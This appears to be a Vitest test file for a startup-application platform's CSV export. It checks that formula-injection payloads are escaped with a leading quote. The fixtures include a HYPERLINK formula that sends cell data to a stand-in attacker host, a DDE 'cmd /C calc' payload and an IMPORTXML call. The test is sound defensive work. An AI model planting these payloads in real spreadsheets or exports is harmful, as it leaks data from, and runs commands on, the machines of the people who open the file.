import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { exportCsv } from "~/modules/applications/select/csv-export.server";
import { asService } from "~/platform/db/transaction.server";
import { addMember, createOrg, createStartup, createUser, type TestUser } from "../support/factories";
import { addQuestion, answer, createApplication, createCall, createProgram } from "../support/application-factories";

// Every export a manager opens in a spreadsheet: what founders typed must never run as a formula
// on the manager's machine (OWASP "CSV injection"). Read back with a real CSV parser.
const FORMULAS = [
  "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1",
];

let manager: TestUser;
let callId: string;
let questions: string[];

beforeAll(async () => {
  [manager] = await Promise.all([createUser()]);
  const founder = await createUser();
  const org = await createOrg();
  await addMember(org.id, manager.id, "manager");
  const call = await createCall((await createProgram(org.id)).id);
  callId = call.id;
  questions = [];
  for (const _ of FORMULAS) questions.push(await addQuestion(callId));
  const number = await addQuestion(callId, { kind: "number" });
  const startup = await createStartup(founder.id);
  // The startup's name is the founder's too.
  await asService((tx) => tx`update public.startups set name = '=IMPORTXML("https://evil.example", "//a")' where id = ${startup.id}`);
  const app = await createApplication(callId, startup.id, founder.id);
  for (const [i, formula] of FORMULAS.entries()) await answer(app, questions[i]!, formula);
  await answer(app, number, -5);
  const deck = await addQuestion(callId, { kind: "file" });
  await asService((tx) => tx`
    insert into public.application_files (application_id, question_id, storage_path, original_name, size_bytes, content_type, uploaded_by)
    values (${app}, ${deck}, 'decks/00000000-0000-4000-8000-000000000000.pdf', '=deck.pdf', 10, 'application/pdf', ${founder.id})`);
});

describe("the applications CSV export", () => {
  it("neutralises every cell a spreadsheet would run as a formula, keeping numbers as numbers", async () => {
    const { csv } = await exportCsv(manager.claims, callId, "en");
    const [header, row] = parse(csv, { bom: true }) as string[][];
    expect(header![0]).toBe("Code");
    const cells = row!;
    // What the founder typed comes back whole, behind a single quote: shown as text, never run.
    for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`);
    expect(cells).toContain(`'=IMPORTXML("https://evil.example", "//a")`);
    expect(cells).toContain("'=deck.pdf");
    expect(cells).toContain("-5"); // a negative number is no formula
    for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  });
});
